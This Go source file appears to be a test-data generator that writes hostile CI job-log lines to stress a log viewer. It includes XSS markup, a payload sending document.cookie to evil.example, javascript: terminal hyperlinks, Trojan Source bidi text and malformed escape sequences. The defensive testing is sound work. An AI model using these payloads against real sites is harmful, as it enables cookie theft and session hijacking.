package loggen

import (
	"strconv"
	"time"
)

// hostileUnits write what a job script can print and a viewer must survive
// (joblog.md §1-§6): markup, bidi and invisible characters, invalid UTF-8,
// control bytes, broken and unknown escape sequences, OSC titles and
// hyperlinks, malformed section markers, misnested sections, huge lines.
var hostileUnits = []unit{
	{4, (*generator).markup},
	{2, (*generator).bidi},
	{3, (*generator).invalidUTF8},
	{3, (*generator).controls},
	{3, (*generator).brokenEscape},
	{3, (*generator).osc},
	{3, (*generator).oddCSI},
	{3, (*generator).badMarker},
	{1, (*generator).misnested},
	{2, (*generator).spanStorm},
}

var markups = []string{
	`<script>alert(document.cookie)</script>`,
	`<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`,
	`"><svg/onload=alert(1)>`,
	`<a href="javascript:alert(1)">click me</a>`,
	`&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#x3C;script&#x3E;`,
	`{{constructor.constructor('alert(1)')()}}`,
	`</div></pre><iframe src="https://evil.example"></iframe>`,
	`<style>body{display:none}</style>`,
}

func (g *generator) markup(_, _ int) {
	g.rec(scriptOut)
	g.str(`$ echo "`, pick(&g.r, markups), `" # user input echoed into the log`)
	g.end()
	g.line(scriptOut, pick(&g.r, markups))
}

// bidi writes Trojan Source style text (CVE-2021-42574) and invisible
// characters: RLO, isolates, zero-width space, BOM, soft hyphen.
func (g *generator) bidi(_, _ int) {
	g.line(scriptOut, pick(&g.r, []string{
		"if accessLevel != \"user\u202e \u2066// Check if admin\u2069 \u2066\" {",
		"access granted: \u202eelif.exe\u202c nothing to see",
		"user\u200bname=\ufeffadmin\u00ad \u2067RTL isolate\u2069 \u200f\u200e marks",
		"file name: \u202egnp.exe (looks like exe.png)",
	}))
}

// invalidUTF8 writes text with bytes that are not UTF-8: lone continuation
// bytes, truncated sequences, overlongs, surrogates, 0xFF (joblog.md §6).
func (g *generator) invalidUTF8(_, _ int) {
	bad := []string{"\xff", "\xfe\xff", "\xc3\x28", "\xe2\x82", "\xf0\x9f\x90", "\xc0\xaf", "\xed\xa0\x80", "\x80\x80", "\xf8\x88\x80\x80\x80"}
	g.rec(scriptOut)
	g.str("binary output: ")
	for range g.r.between(2, 12) {
		g.str(pick(&g.r, words), " ", pick(&g.r, bad))
	}
	g.str(" caf\xc3\xa9 \xf0\x9f\x9a\x80 done")
	g.end()
}

// controls writes C0 and C1 control characters inside text: NUL, BEL, BS
// (no backspace processing in GitLab, joblog.md §3), VT, FF, DEL, and C1
// CSI encoded as UTF-8.
func (g *generator) controls(_, _ int) {
	g.line(scriptOut, pick(&g.r, []string{
		"NUL\x00inside\x00text and a bell\x07 at the end\x07",
		"Progress: 42%\b\b\b99% (backspaces are characters)",
		"vertical\vtab and form\ffeed and delete\x7f and escape-less CSI \xc2\x9b31m",
		"tab\tseparated\tcolumns\twith\x00\x01\x02\x03\x1a\x1c\x1f controls",
	}))
}

// brokenEscape writes escape sequences left unterminated at a line end, or
// whose introducer is not followed by a known sequence (joblog.md §1, §3).
func (g *generator) brokenEscape(_, _ int) {
	g.line(scriptOut, pick(&g.r, []string{
		"unterminated CSI at the end\x1b[31",
		"unterminated SGR params\x1b[38;5;",
		"an ESC alone at the end\x1b",
		"OSC without terminator\x1b]0;window title that never ends",
		"ESC 7 saves the cursor\x1b7 and ESC M\x1bMreverse-indexes",
		"ESC followed by a space\x1b and text",
		"CSI with an invalid byte\x1b[12\x01m here",
	}))
}

// osc writes OSC sequences: window titles (BEL and ST terminated) and OSC 8
// hyperlinks with http, https and javascript targets.
func (g *generator) osc(_, _ int) {
	g.line(scriptOut, pick(&g.r, []string{
		"\x1b]0;npm install\x07added 1342 packages in 12s",
		"\x1b]2;build: step 3/8\x1b\\Compiling",
		"see \x1b]8;;https://docs.gitlab.com/ci/jobs/job_logs/\x1b\\the job log docs\x1b]8;;\x1b\\ for details",
		"\x1b]8;id=42;http://example.com/artifacts?job=1&file=a.txt\x07artifact\x1b]8;;\x07 uploaded",
		"click \x1b]8;;javascript:alert(document.domain)\x1b\\here\x1b]8;;\x1b\\ (must not be a link)",
		"\x1b]1337;File=name=cmVwb3J0LnR4dA==;inline=1:SGVsbG8=\x07 (an iTerm2 image)",
		"\x1b]133;A\x07$ prompt marks\x1b]133;B\x07",
	}))
}

// oddCSI writes CSI sequences a viewer must parse and ignore or clamp:
// private modes, intermediates, cursor moves, clear screen, huge and
// out-of-range parameters, truecolor with bad components, colon forms.
func (g *generator) oddCSI(_, _ int) {
	g.rec(scriptOut)
	g.str(pick(&g.r, []string{
		"\x1b[?25lhidden cursor\x1b[?25h\x1b[?1049h alternate screen\x1b[?1049l",
		"\x1b[2J\x1b[Hcleared screen then \x1b[10;20Hmoved \x1b[3Aup \x1b[5Cright",
		"\x1b[12 qcursor style with an intermediate byte",
		"\x1b[99999999999999999999mhuge param\x1b[0m",
		"\x1b[38;5;999mindex over 255\x1b[0m \x1b[38;5mmissing index\x1b[0m",
		"\x1b[38;2;300;-1;5mbad truecolor\x1b[0m \x1b[48;2;1;2mshort truecolor\x1b[0m",
		"\x1b[38:2::255:136:0mcolon truecolor\x1b[0m \x1b[38:5:208mcolon 256\x1b[0m",
		"\x1b[;;;;1;;;4mempty params\x1b[m \x1b[01;031mleading zeros\x1b[0m",
		"\x1b[5;7;2;53mblink inverse faint overline\x1b[0m \x1b[101;31mbright bg then red\x1b[0m",
	}))
	if g.r.chance(200) {
		g.str(" \x1b[")
		for range g.r.between(100, 2000) {
			g.str("1;")
		}
		g.str("31mthousand-param SGR\x1b[0m")
	}
	g.end()
}

// badMarker writes section markers GitLab does not accept as markers
// (joblog.md §4): bad names, bad times, \e[K instead of \e[0K, options
// without values, an end of a section that was never opened, a marker in
// the middle of a line, a very long name.
func (g *generator) badMarker(_, _ int) {
	t := strconv.FormatInt(g.unix(), 10)
	g.line(scriptOut, pick(&g.r, []string{
		"section_start:" + t + ":bad$name\r\x1b[0Kheader of a section with a dollar",
		"section_start:notanumber:fine_name\r\x1b[0Kbad time",
		"section_start:" + t + ":erase_k\r\x1b[Kwrong erase sequence",
		"section_start:" + t + ":no_value[collapsed]\r\x1b[0Koption without value",
		"section_start:" + t + ":injection[collapsed=true,<script>=1]\r\x1b[0Kbad option key",
		"\x1b[0Ksection_end:" + t + ":never_opened\r\x1b[0K",
		"text before section_start:" + t + ":mid_line\r\x1b[0Kafter a marker in the middle",
		"section_start:" + t + ":" + repeatWord("very_long_name_", 20) + "\r\x1b[0Klong name",
		"section_start:" + t + ":upper.CASE-Name_x[collapsed=TRUE]\r\x1b[0KTRUE is not true",
		"section_end:" + t + ":" + repeatWord("x", 3) + "\r",
	}))
}

func repeatWord(w string, n int) string {
	b := make([]byte, 0, len(w)*n)
	for range n {
		b = append(b, w...)
	}
	return string(b)
}

// misnested ends an outer user section while an inner one is open.
func (g *generator) misnested(_, _ int) {
	if len(g.stack) < 2 {
		g.sectionStart(0, 1)
		return
	}
	outer := len(g.stack) - 2
	g.userSectionEnd(g.stack[outer])
	g.stack = append(g.stack[:outer:outer], g.stack[outer+1])
}

// spanStorm writes one line with a style change every character or two,
// across 8-colour, 256-colour and truecolor.
func (g *generator) spanStorm(_, _ int) {
	g.rec(scriptOut)
	for i := range g.r.between(50, 400) {
		switch i % 3 {
		case 0:
			g.str("\x1b[3")
			g.num(i % 8)
			g.str("m")
		case 1:
			g.str("\x1b[38;5;")
			g.num(i % 256)
			g.str("m")
		default:
			g.str("\x1b[38;2;")
			g.num(i % 256)
			g.str(";")
			g.num(255 - i%256)
			g.str(";128m")
		}
		g.buf = append(g.buf, "abcdefghijklmnopqrstuvwxyz"[i%26])
	}
	g.str("\x1b[0m")
	g.end()
}

// hugeLine writes one line of 64 KiB to 1 MiB (capped by the room left):
// minified JavaScript, or base64, or coloured words.
func (g *generator) hugeLine(maxBytes, _ int) {
	n := min(g.r.between(64<<10, 1<<20), maxBytes/2)
	g.rec(scriptOut)
	start := len(g.buf)
	switch g.r.intn(3) {
	case 0:
		for len(g.buf)-start < n {
			g.str("function ", pick(&g.r, words), "(e,t){return e&&t?e.", pick(&g.r, words), "(t):void 0};")
		}
	case 1:
		const b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
		for len(g.buf)-start < n {
			g.buf = append(g.buf, b64[g.r.intn(64)])
		}
	default:
		for len(g.buf)-start < n {
			g.str("\x1b[3")
			g.num(g.r.intn(8))
			g.str("m", pick(&g.r, words), "\x1b[0m ")
		}
	}
	g.end()
	g.sleep(0, time.Second)
}
